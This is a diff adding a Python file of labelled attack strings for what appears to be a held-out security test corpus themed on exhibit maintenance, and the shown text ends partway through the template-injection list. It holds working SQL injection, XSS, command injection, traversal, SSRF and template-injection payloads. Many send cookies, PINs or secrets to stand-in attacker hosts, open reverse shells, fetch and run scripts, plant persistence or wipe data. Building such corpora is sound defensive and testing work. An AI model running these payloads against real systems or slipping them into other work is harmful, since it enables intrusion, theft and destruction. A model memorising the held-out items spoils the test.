@@ -1,0 +1,612 @@
+#!/usr/bin/env python3
+"""Attack values for the exhibitworks held-out corpus (science centre exhibit maintenance)."""
+import json
+import os
+import random
+
+SEED = 26602
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+# ---------------------------------------------------------------- sqli (75 literals + 5 urlencode)
+SQLI = [
+    ("sqli-boolean", "K-07' OR 'x'='x"),
+    ("sqli-boolean", "tornado' OR 2>1-- "),
+    ("sqli-boolean", "FRC-12' OR 'a' LIKE 'a' #"),
+    ("sqli-boolean", "4471 OR 1=1"),
+    ("sqli-boolean", "drop tower') OR ('k'='k"),
+    ("sqli-boolean", "PB-003\" OR \"\"=\""),
+    ("sqli-boolean", "x' OR exhibit_id IS NOT NULL-- -"),
+    ("sqli-union", "Gallery 2' AND 1=0 UNION SELECT username, password_hash, NULL FROM staff_users-- "),
+    ("sqli-union", "-1 UNION ALL SELECT NULL,table_name,NULL,NULL FROM information_schema.tables-- -"),
+    ("sqli-union", "plasma' UNION SELECT 1,@@version,3,4#"),
+    ("sqli-union", "99999 union select group_concat(email,':',pin),2 from kiosk_admins"),
+    ("sqli-union", "tornado')) UNION SELECT sql,name FROM sqlite_master--"),
+    ("sqli-union-comment", "x' UnIoN/**/SeLeCt/**/null,concat(login,0x3a,pass),null/**/FrOm/**/staff--+"),
+    ("sqli-union", "SCH-2023-0442' union distinct select version(),current_user,3-- "),
+    ("sqli-union", "' UNION SELECT NULL,LOAD_FILE('/etc/passwd'),NULL-- "),
+    ("sqli-union", "1) UNION SELECT * FROM (SELECT 1)a JOIN (SELECT token FROM api_keys)b-- "),
+    ("sqli-time", "K-11' AND SLEEP(7)-- "),
+    ("sqli-time", "4471 AND (SELECT 3 FROM (SELECT SLEEP(6))x)"),
+    ("sqli-time", "pump'; WAITFOR DELAY '0:0:8'--"),
+    ("sqli-time", "tornado' AND 1=(SELECT 1 FROM pg_sleep(6))-- "),
+    ("sqli-time", "1 AND BENCHMARK(9000000,SHA1('exhibit'))"),
+    ("sqli-time", "x' || pg_sleep(5) || '"),
+    ("sqli-time", "Gallery 3' AND IF(SUBSTRING(current_user(),1,1)='r',SLEEP(4),0)-- -"),
+    ("sqli-time", "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
+    ("sqli-time", "' AND 7=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
+    ("sqli-time", "1 AND DBMS_PIPE.RECEIVE_MESSAGE('a',9)=1"),
+    ("sqli-error", "' AND extractvalue(1,concat(0x7e,(select database())))-- "),
+    ("sqli-error", "1 AND updatexml(null,concat(0x3a,(SELECT pin FROM kiosk_admins LIMIT 1)),null)"),
+    ("sqli-error", "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
+    ("sqli-error", "' AND CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)=1--"),
+    ("sqli-error", "FRC-01' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(user(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- "),
+    ("sqli-error", "1' AND ctxsys.drithsx.sn(1,(select user from dual))=1--"),
+    ("sqli-stacked", "Lamp replaced'; DROP TABLE fault_tickets;--"),
+    ("sqli-stacked", "4471; UPDATE staff SET role='admin' WHERE login='gareth'--"),
+    ("sqli-stacked", "note'); INSERT INTO kiosk_admins(login,pin) VALUES('ghost','0000');--"),
+    ("sqli-stacked", "1; EXEC xp_cmdshell 'ping -n 3 203.0.113.9'--"),
+    ("sqli-stacked", "x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh'--"),
+    ("sqli-stacked", "K-07'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(c text); INSERT INTO p.t VALUES('<?php system($_GET[0]);?>');--"),
+    ("sqli-file-write", "'; SELECT pin INTO OUTFILE '/var/www/exhibits/pins.txt' FROM kiosk_admins-- "),
+    ("sqli-stacked", "1; shutdown with nowait--"),
+    ("sqli-blind", "K-07' AND SUBSTR((SELECT pin FROM kiosk_admins WHERE id=1),1,1)='4"),
+    ("sqli-blind", "4471 AND ASCII(SUBSTRING((SELECT TOP 1 password FROM staff),2,1))>77"),
+    ("sqli-blind", "tornado' AND (SELECT COUNT(*) FROM staff_users)>5 AND 'a'='a"),
+    ("sqli-blind", "1 AND 1=(SELECT CASE WHEN (length(database())=9) THEN 1 ELSE 0 END)"),
+    ("sqli-blind", "pump' AND MID(@@hostname,1,1)='e'#"),
+    ("sqli-blind", "drop tower' AND EXISTS(SELECT * FROM grant_budget WHERE amount>50000)-- "),
+    ("sqli-comment-space", "x'/**/oR/**/1/**/=/**/1/**/--/**/"),
+    ("sqli-urlencoded", "K-07'%0aOR%0a1=1%23"),
+    ("sqli-versioned-comment", "tornado'||(SeLeCt/*!50000 user*/())||'"),
+    ("sqli-versioned-comment", "1/*!UNION*//*!SELECT*/login,pin/*!FROM*/kiosk_admins"),
+    ("sqli-double-urlencode", "x%2527%2520OR%25201%253D1--%2520"),
+    ("sqli-fullwidth", "ｘ＇ ＵＮＩＯＮ ＳＥＬＥＣＴ ｌｏｇｉｎ，ｐｉｎ ＦＲＯＭ ｋｉｏｓｋ＿ａｄｍｉｎｓ－－ "),
+    ("sqli-percent-u", "%u0027%u0020OR%u00201=1--"),
+    ("sqli-entity", "K-07&#39; OR &#39;1&#39;=&#39;1"),
+    ("sqli-boolean", "1 OR 0x31=0x31"),
+    ("sqli-boolean", "cloud chamber' or true-- "),
+    ("sqli-boolean", "tornado'+OR+'1'='1"),
+    ("sqli-whitespace", "K-07'\tOR\t'z'='z"),
+    ("sqli-whitespace", "4471\nOR\n1=1"),
+    ("sqli-boolean", "pump' or 1 like 1#"),
+    ("sqli-boolean", "FRC-01' || '1'='1"),
+    ("sqli-boolean", "' OR 1 IN (SELECT 1)-- "),
+    ("sqli-order-by", "created_at,(SELECT CASE WHEN (SELECT substr(pin,1,1) FROM kiosk_admins)='1' THEN 1 ELSE 1/0 END)"),
+    ("sqli-order-by", "priority DESC, IF((SELECT COUNT(*) FROM staff)>3, exhibit_id, status)"),
+    ("sqli-order-by", "3 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,version())),1)"),
+    ("sqli-order-by", "(CASE WHEN (SELECT 1 FROM staff WHERE login='admin')=1 THEN id ELSE name END)"),
+    ("sqli-insert", "Rosa', (SELECT pin FROM kiosk_admins LIMIT 1))-- "),
+    ("sqli-insert", "Great visit!', 5, (SELECT group_concat(login) FROM staff)); --"),
+    ("sqli-union", "O'Brien Primary' AND 1=2 UNION SELECT email, phone FROM school_contacts-- "),
+    ("sqli-auth-bypass", "admin'-- "),
+    ("sqli-union", "Forces' UNION SELECT kiosk_id, admin_pin FROM kiosk_settings WHERE '1'='1"),
+    ("sqli-auth-bypass", "gareth'/*"),
+    ("sqli-oob", "x' AND 1=(SELECT 1 FROM dual WHERE (SELECT utl_http.request('http://attacker.example/'||(SELECT user FROM dual)) FROM dual) IS NOT NULL)--"),
+    ("sqli-oob", "'; DECLARE @q varchar(99); SET @q='\\\\'+(SELECT TOP 1 pin FROM kiosk_admins)+'.attacker.example\\x'; EXEC master..xp_dirtree @q;--"),
+    ("sqli-oob", "1 AND (SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pin FROM kiosk_admins LIMIT 1),'.oob.attacker.example\\\\a')))"),
+]
+SQLI_URLENCODE_POOL = [
+    ("sqli-boolean", "K-07' OR '1'='1' -- "),
+    ("sqli-union", "4471 UNION SELECT login,pin FROM kiosk_admins"),
+    ("sqli-stacked", "pump'; DROP TABLE inventory;--"),
+    ("sqli-time", "x' AND SLEEP(5)#"),
+    ("sqli-error", "tornado' AND extractvalue(1,concat(0x7e,user()))-- "),
+]
+
+# ---------------------------------------------------------------- xss (80 literals)
+XSS = [
+    ("xss-script", "Great visit!<script>fetch('//attacker.example/c?'+document.cookie)</script>"),
+    ("xss-event-handler", "Tornado rattling <img src=x onerror=alert(document.domain)>"),
+    ("xss-event-handler", "<svg/onload=location='https://attacker.example/?c='+document.cookie>"),
+    ("xss-attr-breakout", "\"><script src=//attacker.example/k.js></script>"),
+    ("xss-attr-breakout", "K-07' onmouseover='alert(1)' x='"),
+    ("xss-event-handler", "<body onload=prompt(1)>"),
+    ("xss-js-uri", "<iframe src=javascript:alert(`xss`)>"),
+    ("xss-js-uri", "<a href=\"javascript:fetch('/api/staff').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\">Exhibit manual</a>"),
+    ("xss-event-handler", "<details open ontoggle=alert(1)>"),
+    ("xss-event-handler", "<input autofocus onfocus=eval(atob('YWxlcnQoMSk='))>"),
+    ("xss-event-handler", "<video><source onerror=\"alert(1)\"></video>"),
+    ("xss-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+    ("xss-context-breakout", "</textarea><script>alert(document.cookie)</script>"),
+    ("xss-context-breakout", "</title><svg onload=alert(1)>"),
+    ("xss-case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
+    ("xss-nested-strip", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
+    ("xss-entity", "&lt;script&gt;alert(1)&lt;/script&gt;"),
+    ("xss-entity", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
+    ("xss-js-uri-obfuscated", "<a href=\"jav&#x09;ascript:alert(1)\">rota</a>"),
+    ("xss-js-uri-obfuscated", "<a href=\"&#106;avascript:alert(1)\">click</a>"),
+    ("xss-urlencoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+    ("xss-double-urlencode", "%253Csvg%2520onload%253Dalert(1)%253E"),
+    ("xss-unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
+    ("xss-js-string", "';alert(String.fromCharCode(88,83,83));//"),
+    ("xss-js-string", "\";document.location='//attacker.example/?'+document.cookie;//"),
+    ("xss-context-breakout", "</script><script>alert(1)</script>"),
+    ("xss-js-template-literal", "K-07`+alert(document.domain)+`"),
+    ("xss-svg", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
+    ("xss-event-handler", "<marquee onstart=alert(1)>Welcome to the science centre</marquee>"),
+    ("xss-data-uri", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
+    ("xss-js-uri", "<embed src=\"javascript:alert(1)\">"),
+    ("xss-js-uri", "<form action=javascript:alert(1)><button>Submit booking</button></form>"),
+    ("xss-base-hijack", "<base href=\"//attacker.example/\">"),
+    ("xss-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
+    ("xss-css-injection", "<link rel=stylesheet href=//attacker.example/x.css>"),
+    ("xss-css-injection", "<style>@import'//attacker.example/x.css';</style>"),
+    ("xss-css-exfil", "<style>input[name=csrf][value^=a]{background:url(//attacker.example/a)}</style>"),
+    ("xss-event-handler", "<img src=\"x\" onerror=\"this.src='//attacker.example/?'+localStorage.getItem('token')\">"),
+    ("xss-markdown", "[Click for the grant PDF](javascript:alert(document.cookie))"),
+    ("xss-markdown", "![exhibit](x\" onerror=\"alert(1))"),
+    ("xss-csti", "{{constructor.constructor('alert(1)')()}}"),
+    ("xss-csti", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>"),
+    ("xss-svg", "<svg><script>alert&#40;1&#41;</script>"),
+    ("xss-event-handler", "<select autofocus onfocus=alert(1)>"),
+    ("xss-event-handler", "<textarea autofocus onfocus=alert(1)>"),
+    ("xss-event-handler", "<audio src=x onerror=alert(1)>"),
+    ("xss-svg", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Tap</text></a></svg>"),
+    ("xss-whitespace", "<img src=x:x onerror\t=\talert(1)>"),
+    ("xss-whitespace", "<img/src/onerror=alert(1)>"),
+    ("xss-whitespace", "<svg\nonload=alert(1)>"),
+    ("xss-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\">"),
+    ("xss-data-uri", "<a href=\"data:text/html,<script>alert(1)</script>\">feedback form</a>"),
+    ("xss-js-uri", "javascript:alert(document.cookie)"),
+    ("xss-case-mixing", "JaVaScRiPt:alert(1)"),
+    ("xss-js-uri-obfuscated", "  javascript://%0aalert(1)"),
+    ("xss-event-handler", "<img src=x onerror=import('//attacker.example/m.js')>"),
+    ("xss-obfuscated-call", "<svg onload=setTimeout`alert\\x281\\x29`>"),
+    ("xss-obfuscated-call", "<img src=x onerror=window['al'+'ert'](1)>"),
+    ("xss-event-handler", "<body onpageshow=alert(1)>"),
+    ("xss-obfuscated-call", "<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
+    ("xss-attr-breakout", "\"autofocus onfocus=\"alert(1)"),
+    ("xss-attr-breakout", "x\" onpointerover=\"fetch('//attacker.example/'+document.cookie)"),
+    ("xss-attr-breakout", "'><img src=x onerror=alert(1)>"),
+    ("xss-context-breakout", "--><script>alert(1)</script><!--"),
+    ("xss-mutation", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
+    ("xss-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
+    ("xss-svg", "<svg><foreignObject><iframe onload=alert(1)>"),
+    ("xss-event-handler", "<input type=image src=x onerror=alert(1)>"),
+    ("xss-script", "<script>new Image().src='//203.0.113.50/k?'+encodeURIComponent(document.cookie)</script>"),
+    ("xss-script", "<script>document.write('<iframe src=//attacker.example/phish width=100% height=100%>')</script>"),
+    ("xss-obfuscated-call", "<img src=x onerror=\"eval(String.fromCharCode(97,108,101,114,116,40,49,41))\">"),
+    ("xss-fullwidth", "＜script＞alert(1)＜/script＞"),
+    ("xss-percent-u", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
+    ("xss-svg", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
+    ("xss-event-handler", "<x contenteditable onblur=alert(1)>tap here</x>"),
+    ("xss-event-handler", "<p onclick=alert(1)>Hold for 3 seconds to reset</p>"),
+    ("xss-event-handler", "Name: Mei <img src=1 onerror=alert(document.domain)> (new starter)"),
+    ("xss-script", "Hi {{first_name}}<script>location='//attacker.example/'+btoa(document.body.innerHTML)</script>"),
+    ("xss-event-handler", "<a href=\"#\" onclick=\"fetch('/api/admin/users',{method:'POST',body:'role=admin&u=ghost'})\">rota v4</a>"),
+    ("xss-obfuscated-call", "<img src=x onerror=alert`1`>"),
+]
+
+# ---------------------------------------------------------------- cmdi (62 literals + 10 pool)
+CMDI = [
+    ("cmdi-separator", "K-07; cat /etc/passwd"),
+    ("cmdi-separator", "kiosk-k07 && id"),
+    ("cmdi-reverse-shell", "/dev/ttyUSB0 | nc 203.0.113.7 4444 -e /bin/sh"),
+    ("cmdi-download-exec", "btn_v241.hex; curl -s http://attacker.example/s.sh | bash"),
+    ("cmdi-substitution", "leds_v5.hex`wget -qO- attacker.example/x|sh`"),
+    ("cmdi-substitution", "COM4$(curl attacker.example/$(whoami))"),
+    ("cmdi-reverse-shell", "kiosk-k07.local || bash -i >& /dev/tcp/203.0.113.15/9001 0>&1"),
+    ("cmdi-newline", "10.0.4.17\nuname -a"),
+    ("cmdi-urlencoded", "kiosk-k11%0Acat%20/etc/shadow"),
+    ("cmdi-separator", "space_loop_v3.mp4;rm -rf /opt/kiosk/app"),
+    ("cmdi-ifs", "photo.jpg;${IFS}cat${IFS}/etc/passwd"),
+    ("cmdi-brace-expansion", "x;{cat,/etc/passwd}"),
+    ("cmdi-glob", "a|/bin/ca?/et?/pas??d"),
+    ("cmdi-quote-split", "K-07;c'a't /e't'c/pa's's'wd"),
+    ("cmdi-backslash-split", "K-07;c\\at /et\\c/pass\\wd"),
+    ("cmdi-substitution", "kiosk$(printf '\\151\\144')"),
+    ("cmdi-base64", "x; echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3J8c2g= | base64 -d | sh"),
+    ("cmdi-reverse-shell", "uptime.csv'; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.22\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'; echo '"),
+    ("cmdi-quote-breakout", "report.pdf\"; perl -e 'system(\"id\")'; \""),
+    ("cmdi-windows", "& type C:\\Windows\\win.ini"),
+    ("cmdi-windows", "COM4 & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
+    ("cmdi-windows", "COM4 | whoami /all"),
+    ("cmdi-windows", "kiosk-k07 & certutil -urlcache -split -f http://203.0.113.40/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
+    ("cmdi-urlencoded", "%0a/usr/bin/id%0a"),
+    ("cmdi-time", "x`sleep 9`"),
+    ("cmdi-ifs", "kiosk-k07;sleep${IFS}10"),
+    ("cmdi-separator", "127.0.0.1 -c 1; ping -c 12 203.0.113.3"),
+    ("cmdi-argument-injection", "-oProxyCommand=curl${IFS}attacker.example/k|sh x"),
+    ("cmdi-argument-injection", "--output=/var/www/html/s.php http://attacker.example/s.txt"),
+    ("cmdi-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh\\ /tmp/x.sh"),
+    ("cmdi-oob-dns", "x; nslookup $(whoami).oob.attacker.example"),
+    ("cmdi-persistence", "K-07;echo$IFS'*/5 * * * * curl attacker.example/c|sh'>>/var/spool/cron/crontabs/root"),
+    ("cmdi-interpreter", "uptime.csv; awk 'BEGIN{system(\"id\")}'"),
+    ("cmdi-glob", "a;/???/??t /???/p??s??"),
+    ("cmdi-ansi-c-quoting", "x;$'\\x63\\x61\\x74' /etc/passwd"),
+    ("cmdi-urlencoded", "K-07 %26%26 id"),
+    ("cmdi-urlencoded", "K-07%3Bwget%20http%3A%2F%2Fattacker.example%2Fb%20-O%20%2Ftmp%2Fb"),
+    ("cmdi-newline", "kiosk-k07\r\nwhoami"),
+    ("cmdi-substitution", "K-07 $(cat</etc/passwd>&2)"),
+    ("cmdi-persistence", "x|tee -a /home/pi/.ssh/authorized_keys<<<'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyFakeKeyFakeKey attacker'"),
+    ("cmdi-privesc", "fw.bin;chmod +s /bin/bash"),
+    ("cmdi-privesc", "fw.bin && sudo -n /bin/sh -c id"),
+    ("cmdi-separator", "; systemctl stop kiosk.service"),
+    ("cmdi-separator", "kiosk-k07;killall -9 chromium"),
+    ("cmdi-destructive", "x; dd if=/dev/zero of=/dev/mmcblk0 bs=1M"),
+    ("cmdi-oob-dns", "leds.hex|xxd -p /etc/passwd|while read l;do nslookup $l.attacker.example;done"),
+    ("cmdi-substitution", "10.0.4.17 `id`"),
+    ("cmdi-variable-slice", "kiosk-k07;${HOME:0:1}bin${HOME:0:1}sh -c id"),
+    ("cmdi-quote-split", "x;b''a''s''h -c 'id'"),
+    ("cmdi-variable-concat", "K-07;X=ca;Y=t;$X$Y /etc/passwd"),
+    ("cmdi-base64", "a;eval $(echo 'aWQ=' | base64 -d)"),
+    ("cmdi-reverse-shell", "&& ncat 198.51.100.9 4443 -e /bin/bash"),
+    ("cmdi-reverse-shell", "|| php -r '$s=fsockopen(\"203.0.113.30\",8080);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
+    ("cmdi-reverse-shell", "; ruby -rsocket -e'exit if fork;c=TCPSocket.new(\"198.51.100.4\",\"4000\");loop{c.gets.chomp!;IO.popen($_,\"r\"){|i|c.print i.read}}'"),
+    ("cmdi-windows", "logo.png\" & cmd /c \"net user ghost Fake-Passw0rd /add"),
+    ("cmdi-windows", "K-07 | Get-Content C:\\Kiosk\\config\\secrets.json"),
+    ("cmdi-exfil", "uptime.csv; find / -name '*.pem' -exec curl -F f=@{} http://attacker.example/u \\;"),
+    ("cmdi-exfil", "x;env|curl -d @- http://attacker.example/e"),
+    ("cmdi-backdoor", "kiosk-k07;/bin/busybox telnetd -l /bin/sh -p 2323"),
+    ("cmdi-newline", "leds.hex\n/bin/sh -c 'id>/tmp/p'"),
+    ("cmdi-whitespace", "fw.bin ;\t id"),
+    ("cmdi-substitution", "kiosk-k07$(reboot)"),
+]
+CMDI_PREFIXES = ["kiosk-k07", "btn_v241.hex", "/dev/ttyACM0", "uptime.csv", "space_loop_v3.mp4"]
+CMDI_PAYLOADS = [
+    ("cmdi-separator", "; id"),
+    ("cmdi-separator", " | cat /etc/passwd"),
+    ("cmdi-download-exec", " && curl http://attacker.example/i.sh | sh"),
+    ("cmdi-substitution", "$(wget -qO- 203.0.113.9/r)"),
+    ("cmdi-reverse-shell", "`nc 198.51.100.23 9001 -e sh`"),
+    ("cmdi-separator", " || uname -a"),
+]
+CMDI_POOL_COUNT = 10
+
+# ---------------------------------------------------------------- traversal (46 literals + 4 urlencode)
+TRAVERSAL = [
+    ("traversal-dotdot", "../../../../etc/passwd"),
+    ("traversal-dotdot", "../../../opt/kiosk/config/secrets.json"),
+    ("traversal-dotdot", "screens/../../../../../etc/shadow"),
+    ("traversal-backslash", "..\\..\\..\\Windows\\win.ini"),
+    ("traversal-backslash", "C:\\Kiosk\\assets\\..\\..\\..\\Windows\\System32\\config\\SAM"),
+    ("traversal-urlencoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
+    ("traversal-double-urlencode", "%252e%252e%252f%252e%252e%252fetc%252fhosts"),
+    ("traversal-overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
+    ("traversal-overlong-utf8", "..%e0%80%af..%e0%80%afetc/passwd"),
+    ("traversal-overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
+    ("traversal-percent-u", "..%u2216..%u2216windows%u2216win.ini"),
+    ("traversal-strip-bypass", "....//....//....//etc/passwd"),
+    ("traversal-strip-bypass", "..././..././..././etc/passwd"),
+    ("traversal-mixed-slash", "..\\/..\\/..\\/etc/passwd"),
+    ("traversal-dotdot", "/media/kiosk/loops/../../../root/.ssh/id_rsa"),
+    ("traversal-dotdot", "/opt/kiosk/app/screens/home.json/../../../../../proc/self/environ"),
+    ("traversal-dotdot", "../../../../proc/self/cmdline"),
+    ("traversal-log-poison", "../../../../../var/log/nginx/access.log"),
+    ("traversal-null-byte", "../../../../etc/passwd%00.png"),
+    ("traversal-null-byte", "../../../../etc/passwd\\u0000.mp4"),
+    ("traversal-dotdot", "logo_white.png/../../../../../../etc/hosts"),
+    ("traversal-absolute", "/etc/passwd"),
+    ("traversal-absolute", "/proc/1/environ"),
+    ("traversal-urlencoded", "..%2f..%2f..%2fhome%2fpi%2f.bash_history"),
+    ("traversal-urlencoded", "..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config"),
+    ("traversal-dotdot", "../../../../etc/group"),
+    ("traversal-double-urlencode", "..%252f..%252f..%252fetc/passwd"),
+    ("traversal-urlencoded", "%2e%2e/%2e%2e/%2e%2e/var/lib/kiosk/db.sqlite3"),
+    ("traversal-urlencoded", ".%2e/.%2e/.%2e/etc/passwd"),
+    ("traversal-path-param", "/static/..;/..;/WEB-INF/web.xml"),
+    ("traversal-dotdot", "../../../../WEB-INF/web.xml"),
+    ("traversal-backslash", "..\\..\\..\\..\\Kiosk\\config\\kiosk.ini"),
+    ("traversal-unc", "\\\\203.0.113.5\\share\\payload.dll"),
+    ("traversal-dotdot", "../../../../../../../../../../../../etc/passwd"),
+    ("traversal-dotdot", "rota/2024-W19_v3.xlsx/../../../../../../etc/shadow"),
+    ("traversal-dotdot", "/shared/rota/../../../etc/sudoers"),
+    ("traversal-dotdot", "exhibits/cannon/fw/../../../../.git/config"),
+    ("traversal-dotdot", "../../.env"),
+    ("traversal-dotdot", "../../../../home/pi/.aws/credentials"),
+    ("traversal-overlong-utf8", "..%c1%9c..%c1%9cwindows/win.ini"),
+    ("traversal-nested-encoding", "%%32%65%%32%65/%%32%65%%32%65/etc/passwd"),
+    ("traversal-fullwidth", "．．/．．/．．/etc/passwd"),
+    ("traversal-fullwidth", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
+    ("traversal-dotdot", "/var/www/exhibits/uploads/../../../../etc/passwd"),
+    ("traversal-php-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
+    ("traversal-zip-slip", "../../../../../opt/kiosk/app/screens/home.json"),
+]
+TRAVERSAL_URLENCODE_POOL = [
+    ("traversal-dotdot", "../../../etc/passwd"),
+    ("traversal-dotdot", "/media/kiosk/../../../root/.bash_history"),
+    ("traversal-backslash", "..\\..\\..\\Kiosk\\config\\secrets.json"),
+    ("traversal-dotdot", "screens/../../../../var/lib/kiosk/db.sqlite3"),
+]
+
+# ---------------------------------------------------------------- ssrf (50 literals)
+SSRF = [
+    ("ssrf-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+    ("ssrf-cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
+    ("ssrf-cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
+    ("ssrf-loopback", "http://127.0.0.1:8080/admin"),
+    ("ssrf-loopback", "http://localhost:9200/_cat/indices"),
+    ("ssrf-ipv6", "http://[::1]:6379/"),
+    ("ssrf-alt-ip", "http://0x7f000001/server-status"),
+    ("ssrf-alt-ip", "http://2130706433:8080/admin"),
+    ("ssrf-alt-ip", "http://017700000001/"),
+    ("ssrf-alt-ip", "http://127.1/api/internal/users"),
+    ("ssrf-alt-ip", "http://0/"),
+    ("ssrf-alt-ip", "http://0.0.0.0:22/"),
+    ("ssrf-ipv6", "http://[::ffff:127.0.0.1]:3000/"),
+    ("ssrf-ipv6", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
+    ("ssrf-dns-rebinding", "http://169-254-169-254.attacker.example/latest/meta-data/"),
+    ("ssrf-alt-ip", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
+    ("ssrf-alt-ip", "http://2852039166/latest/meta-data/"),
+    ("ssrf-alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
+    ("ssrf-internal", "http://10.0.4.17:5000/firmware/upload"),
+    ("ssrf-internal", "http://192.168.1.1/cgi-bin/luci"),
+    ("ssrf-internal", "http://172.16.0.10:8500/v1/kv/?recurse"),
+    ("ssrf-internal", "http://kiosk-monitor.internal:9090/api/v1/targets"),
+    ("ssrf-gopher", "gopher://127.0.0.1:6379/_INFO%0d%0aCONFIG%20GET%20*%0d%0aQUIT%0d%0a"),
+    ("ssrf-gopher", "gopher://localhost:25/_HELO%20x%0d%0aMAIL%20FROM:<a@attacker.example>%0d%0aRCPT%20TO:<staff@exhibitworks.example>%0d%0a"),
+    ("ssrf-dict", "dict://127.0.0.1:11211/stats"),
+    ("ssrf-file-scheme", "file:///etc/passwd"),
+    ("ssrf-file-scheme", "file:///opt/kiosk/config/secrets.json"),
+    ("ssrf-file-scheme", "file://localhost/c:/windows/win.ini"),
+    ("ssrf-ftp", "ftp://10.0.0.5/backups/kiosk.tar"),
+    ("ssrf-ldap", "ldap://127.0.0.1:389/dc=exhibitworks,dc=example??sub?(objectClass=*)"),
+    ("ssrf-userinfo-confusion", "http://attacker.example@127.0.0.1:8080/admin"),
+    ("ssrf-parser-confusion", "http://127.0.0.1#@cdn.exhibitworks.example/"),
+    ("ssrf-open-redirect", "http://cdn.exhibitworks.example.attacker.example/redirect?to=http://169.254.169.254/"),
+    ("ssrf-open-redirect", "https://attacker.example/302?url=http%3A%2F%2F127.0.0.1%3A2375%2Fcontainers%2Fjson"),
+    ("ssrf-internal", "http://127.0.0.1:2375/v1.41/containers/json"),
+    ("ssrf-internal", "http://localhost:10250/pods"),
+    ("ssrf-internal", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
+    ("ssrf-internal", "http://127.0.0.1:8500/v1/agent/self"),
+    ("ssrf-ipv6", "http://[fd00::1]:8080/"),
+    ("ssrf-dns-rebinding", "http://loopback.attacker.example:8080/admin"),
+    ("ssrf-parser-confusion", "http://127.0.0.1:80\\@attacker.example/"),
+    ("ssrf-unicode", "http://①②⑦.⓪.⓪.①/admin"),
+    ("ssrf-crlf-smuggling", "http://127.0.0.1:6379/%0D%0ACONFIG%20SET%20dir%20/var/www%0D%0A"),
+    ("ssrf-jar", "jar:http://attacker.example/x.zip!/a.txt"),
+    ("ssrf-netdoc", "netdoc:///etc/passwd"),
+    ("ssrf-cloud-metadata", "http://169.254.170.2/v2/credentials/"),
+    ("ssrf-cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
+    ("ssrf-cloud-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
+    ("ssrf-internal", "http://192.168.0.1:8080/manager/html"),
+    ("ssrf-unicode", "http://127。0。0。1/admin"),
+]
+
+# ---------------------------------------------------------------- code (86 literals)
+CODE = [
+    ("code-ssti-jinja", "{{7*'7'}}{{config.items()}}"),
+    ("code-ssti-jinja", "Hi {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
+    ("code-ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
+    ("code-ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
+    ("code-ssti-jinja", "{{request.application.__globals__.__builtins__.open('/etc/passwd').read()}}"),
+    ("code-ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
+    ("code-ssti-jinja", "{{ lipsum.__globals__['os'].environ }}"),
